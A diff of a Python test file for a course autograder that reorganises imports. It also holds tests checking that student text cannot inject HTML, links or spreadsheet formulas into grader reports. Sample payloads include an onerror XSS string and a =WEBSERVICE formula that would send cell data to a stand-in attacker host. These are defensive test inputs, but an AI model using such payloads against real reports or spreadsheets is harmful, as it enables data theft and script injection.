@@ -9,7 +9,9 @@ import re
 
 import pytest
 
-from autograder import course, grade, mistakes, report, spec
+from autograder import grade
+from autograder.diagnosis import mistakes, report
+from autograder.parts import course, spec
 from tests.graderkit import make_submission, run_cli
 
 TOP_LEVEL = {"score": (int, float), "execution_time": (int,), "output": (str,), "output_format": (str,),
@@ -48,7 +50,8 @@ def validate(results):
 
 
 def test_gradescope_mode_results_follow_the_specification(tmp_path):
-    m = next(m for m in __import__("autograder.mistakes").mistakes.HINTED if m.id == "gru-z-swapped")
+    from autograder.diagnosis import mistakes  # instructor-only module
+    m = next(m for m in mistakes.HINTED if m.id == "gru-z-swapped")
     root = tmp_path / "autograder"
     make_submission(root / "submission", [(m.path, m.old, m.new)])
     (root / "results").mkdir()
@@ -153,7 +156,7 @@ def test_a_hint_the_students_own_text_fakes_is_not_counted_as_one(tmp_path):
 def test_a_hint_is_counted_by_the_graders_text_without_the_students_names_and_lines():
     """A hint may name the student's own field, operand or line (shown to them); the class report counts it
     by the grader's text alone, so no student's text reaches it and one hint is one entry for the class."""
-    from autograder import compare, feedback, places
+    from autograder.diagnosis import compare, feedback, places
     evil = "PWNED <img src=x> [click](http://evil.example)"
     field = compare.error_hints("AttributeError: 'Cache' object has no attribute 'ＩＮＳＴＲＵＣＴＯＲnote'")
     operand = compare.error_hints("matmul: Input operand 1 has a mismatch in its core dimension 0",
@@ -182,7 +185,7 @@ def test_markdown_output_keeps_the_whole_text_in_its_code_block(text):
 def test_the_class_reports_markdown_cells_are_plain_text():
     """A submission's name, a hint or a problem holds student text: in report.md it is one line of literal text
     (every ASCII punctuation character escaped), so no image, link, HTML, heading or extra cell comes of it."""
-    from autograder import class_report
+    from autograder.instructor import class_report
     text = "![x](http://e.example/p.png) <img src=x onerror=alert(1)> [link](http://e.example) | # h\n| a | b |"
     cell = class_report._md_cell(text)
     assert "\n" not in cell
@@ -196,7 +199,8 @@ def test_no_cell_of_the_class_csvs_starts_a_spreadsheet_formula():
     line of printable text); the scores stay numbers."""
     import csv
     import io
-    from autograder import class_report
+
+    from autograder.instructor import class_report
     parts = [spec.PARTS_BY_NUMBER["1.1"]]
     formulas = ['=WEBSERVICE("http://evil.example?"&A3)', "+1+2", "-2+3", "@SUM(A1)", "\tx"]
     rows = [{"name": f, "form": f + ".zip", "scores": [0.0], "total": 0.0, "problem": "", "detail": f,
